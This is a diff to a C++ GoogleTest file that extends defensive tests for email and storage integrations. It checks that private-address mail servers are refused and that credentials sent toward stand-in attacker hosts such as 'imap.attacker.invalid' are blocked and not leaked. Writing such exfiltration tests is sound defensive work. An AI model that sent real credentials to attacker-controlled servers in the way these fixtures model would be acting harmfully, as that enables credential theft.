@@ -258,6 +258,8 @@ TEST_F(Media, MailServersAtPrivateAddressesAreRefused) {
     const auto outcome =
         bench_.call("send-email", std::string(R"({"smtp_host": ")") + host + R"(", "smtp_port": 9, "timeout": 5, )" + kMail + "}");
     EXPECT_THAT(text(outcome), testing::AllOf(HasSubstr("authorization"), HasSubstr("are refused"))) << host;
+    const auto mailbox = bench_.call("email-summarizer", std::string(R"({"imap": {"host": ")") + host + R"(", "port": 9, "timeout": 5}})");
+    EXPECT_THAT(text(mailbox), testing::AllOf(HasSubstr("authorization"), HasSubstr("are refused"))) << host;
   }
 }
 
@@ -269,6 +271,11 @@ TEST_F(Media, CredentialsOfAnIntegrationGoToItsOwnServerOnly) {
   };
   const auto stolen = with(R"("smtp_host": "smtp.attacker.invalid", "smtp_username": "robot", "smtp_password": "canary-1")");
   EXPECT_THAT(text(stolen), testing::AllOf(HasSubstr("http.secret_host"), Not(HasSubstr("canary-1"))));
+  const auto read =
+      bench_.call("email-summarizer",
+                  R"({"imap": {"host": "imap.attacker.invalid", "port": 9, "username": "robot", "password": "canary-1", "timeout": 1}})",
+                  "{}", kSecrets);
+  EXPECT_THAT(text(read), testing::AllOf(HasSubstr("http.secret_host"), Not(HasSubstr("canary-1"))));
   EXPECT_THAT(text(with(R"("smtp_host": "smtp.attacker.invalid", "attachments": [{"name": "a", "content": "x canary-1 y"}])")),
               HasSubstr("http.secret_host"));
   EXPECT_THAT(text(bench_.call("s3",
